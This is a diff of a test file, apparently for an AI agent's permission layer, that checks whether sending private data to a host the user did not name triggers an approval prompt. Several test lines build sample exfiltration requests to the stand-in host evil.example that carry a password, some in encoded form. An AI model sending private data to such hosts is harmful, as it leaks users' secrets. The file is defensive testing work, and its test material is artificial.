@@ -4,8 +4,7 @@ from __future__ import annotations
 
 import pytest
 
-from tools import Effect, Provenance
-from tools.provenance import host_of, hosts_named
+from tools import Effect, Provenance, host_of, hosts_named
 
 SENDS = frozenset({Effect.READS_OUTSIDE, Effect.SENDS_OUT})
 READS = frozenset({Effect.READS_OUTSIDE})
@@ -68,9 +67,16 @@ def test_private_data_to_an_unnamed_host_asks_without_outside_content() -> None:
     read = turn.read(PRIVATE, "search_memory's answer", "the wifi password is Kx7pQ2vLm9", [])
     carried = read.check(SENDS, "evil.example", {"url": "https://evil.example/?d=Kx7pQ2vLm9"})
     assert carried.ask is not None and "'kx7pq2vlm9'" in carried.ask
-    # Words the user said themself are not private: sending them needs no question.
+    # However it is encoded: after a read of private data, an unnamed host asks.
+    encoded = read.check(SENDS, "evil.example", {"url": "https://evil.example/?d=S3g3cFEy"})
+    assert encoded.ask == (
+        "this request to evil.example, which you did not name, follows a read of your "
+        "private data (search_memory's answer)"
+    )
+    assert read.check(SENDS, None, {}).runs  # no host: nothing leaves
+    # Words the user said themself are not private: a tool that echoes them carries nothing.
     said = ["look up Kx7pQ2vLm9"]
-    own = Provenance.of_model(said).read(PRIVATE, "x", "Kx7pQ2vLm9 found", said)
+    own = Provenance.of_model(said).read(frozenset(), "x", "Kx7pQ2vLm9 found", said)
     assert own.check(SENDS, "evil.example", {"url": "https://evil.example/?q=Kx7pQ2vLm9"}).runs
 
 
@@ -87,6 +93,12 @@ def test_an_unattended_run_is_refused_what_nobody_can_approve() -> None:
         "a scheduled task runs without you, so it may not change your tasks or notes after "
         "reading content from status.example"
     )
+
+
+def test_private_data_read_earlier_in_the_conversation_still_counts() -> None:
+    later = Provenance.of_model(["anything else?"], private=["what search_memory returned"])
+    asked = later.check(SENDS, "evil.example", {"url": "https://evil.example/?d=eA"})
+    assert asked.ask is not None and "what search_memory returned" in asked.ask
 
 
 def test_sources_are_listed_once_and_shortened() -> None:
